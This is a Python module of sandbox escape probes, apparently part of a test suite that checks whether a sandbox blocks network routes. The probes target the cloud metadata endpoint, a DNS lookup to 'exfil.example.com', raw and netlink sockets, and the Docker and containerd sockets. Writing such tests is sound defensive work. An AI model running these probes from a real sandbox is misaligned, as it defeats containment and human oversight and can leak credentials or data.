"""By the network: past the proxy, to the world or to the host."""

from __future__ import annotations

import errno
import socket

from ostiary.testing.attacks_on_sandbox.common import TOLD, reach


def call_by_address() -> str:
    return reach(socket.AF_INET, ("192.0.2.1", 443))


def call_by_address_6() -> str:
    return reach(socket.AF_INET6, ("2001:db8::1", 443))


def call_metadata() -> str:
    return reach(socket.AF_INET, ("169.254.169.254", 80))


def resolve_name() -> str:
    return f"resolved {socket.getaddrinfo('exfil.example.com', 443)}"


def ask_name_server() -> str:
    question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\5exfil\7example\3com\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(question, ("192.0.2.53", 53))
    return "asked"


def send_datagram() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"out", ("192.0.2.1", 9))
    return "sent"


def broadcast() -> str:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.sendto(b"out", ("ff02::1", 9))
    return "sent"


def ping() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        one.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("192.0.2.1", 0))
    return "sent"


def frames() -> str:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return "opened"


def configure_network() -> str:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
    return "opened"


def hypervisor() -> str:
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    return "opened"


def pairs_of_strangers() -> str:
    """Ask for a pair of a family that knows none: the kernel makes both sockets before it says so."""
    for family in (16, 30, 38, 40):
        try:
            first, second = socket.socketpair(family, socket.SOCK_STREAM)
        except OSError as no:
            if no.errno == errno.EPERM:
                continue
            return f"family {family} was looked at ({no})"
        first.close()
        second.close()
        return f"made a pair of {family}"
    return ""


def host_loopback() -> str:
    return reach(socket.AF_INET, ("127.0.0.1", TOLD["tcp"]))


def host_loopback_6() -> str:
    return reach(socket.AF_INET6, ("::1", TOLD["tcp"]))


def host_any_address() -> str:
    return reach(socket.AF_INET, ("0.0.0.0", TOLD["tcp"]))  # noqa: S104 - Linux takes it for the loopback


def abstract_socket() -> str:
    return reach(socket.AF_UNIX, "\0" + TOLD["abstract"])


def socket_file() -> str:
    return reach(socket.AF_UNIX, TOLD["unix"])


def socket_file_through_init() -> str:
    return reach(socket.AF_UNIX, "/proc/1/root" + TOLD["unix"])


def system_sockets() -> str:
    for path in ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"):
        try:
            return reach(socket.AF_UNIX, path)
        except OSError:
            continue
    return ""
